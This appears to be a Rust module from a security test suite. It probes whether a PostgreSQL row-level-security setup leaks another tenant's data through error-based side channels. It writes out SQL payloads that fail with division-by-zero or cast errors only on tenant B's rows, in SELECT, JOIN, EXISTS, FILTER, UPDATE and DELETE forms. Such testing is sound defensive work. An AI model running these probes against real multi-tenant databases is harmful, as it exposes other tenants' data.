//! P-53: an expression that looks before the policy does.

use super::tools::*;

pub(super) const ATTACK: Attack = Attack {
    id: "P-53",
    title: "A predicate is evaluated on another tenant's rows",
    severity: Critical,
    meaning: "If the planner runs an expression of the query before the policy, an error, a notice or the time it takes tells what stands in another tenant's row.",
    method: "As A, reads with expressions that fail on B's row only (division by zero, a cast, xpath), in WHERE, JOIN, EXISTS, CASE, aggregate FILTER, UPDATE and DELETE. The control is the same expression for A's own row, which must fail. Then tries to create the function and the operator that a finer attack would need.",
    remedy: "Install the server's newest minor release; remove LEAKPROOF from functions of your own; keep CREATE from the runtime.",
    run: |stage| Box::pin(run(stage)),
};

async fn run(stage: &Stage) -> Verdict {
    let mut tally = Tally::default();
    stage.as_a.begin(Some(&stage.a)).await?;
    for table in stage.tables() {
        let Some((a, b)) = both(table, &mut tally) else { continue };
        let name = &table.sql;
        let bomb = |row: &str| format!("1 / (CASE WHEN {row} THEN 0 ELSE 1 END) = 1");
        let control = format!("SELECT 1 FROM {name} t WHERE {}", bomb(&a.is_it));
        if stage.as_a.attempt(&control, Wire::Simple).await?.code() != "22012" {
            tally.left(&table.table, "the expression does not fail on tenant A's own row");
            continue;
        }
        tally.tried();
        let zero = bomb(&b.is_it);
        let cast = format!("(CASE WHEN {} THEN 'x' ELSE '1' END)::pg_catalog.int4 = 1", b.is_it);
        let mut spellings = vec![
            format!("SELECT 1 FROM {name} t WHERE {zero}"),
            format!("SELECT 1 FROM {name} t WHERE {cast}"),
            format!("SELECT 1 FROM {name} t WHERE {zero} AND {}", b.is_it),
            format!("SELECT 1 FROM (VALUES (1)) v(x) JOIN {name} t ON {zero}"),
            format!("SELECT 1 FROM (VALUES (1)) v(x) WHERE EXISTS (SELECT 1 FROM {name} t WHERE {zero})"),
            format!("SELECT 1 FROM {name} t ORDER BY {zero} LIMIT 1"),
            format!("SELECT count(*) FILTER (WHERE {zero}) FROM {name} t"),
            format!("SELECT CASE WHEN {zero} THEN 1 END FROM {name} t LIMIT 1"),
        ];
        if let (true, Some(column)) = (table.writable, table.idle_column()) {
            spellings.push(format!("UPDATE {name} t SET {column} = {column} WHERE {zero} AND {}", b.is_it));
            spellings.push(format!("DELETE FROM {name} t WHERE {zero} AND {}", b.is_it));
        }
        for sql in &spellings {
            for wire in WIRES {
                tally.attempt();
                let answer = stage.as_a.attempt(sql, wire).await?;
                if matches!(answer.code(), "22012" | "22P02") {
                    tally.broke(&table.table, "an expression was evaluated on tenant B's row");
                }
            }
        }
    }
    stage.as_a.end().await?;
    Ok(tally.finish("table", "expressions saw tenant A's rows only"))
}
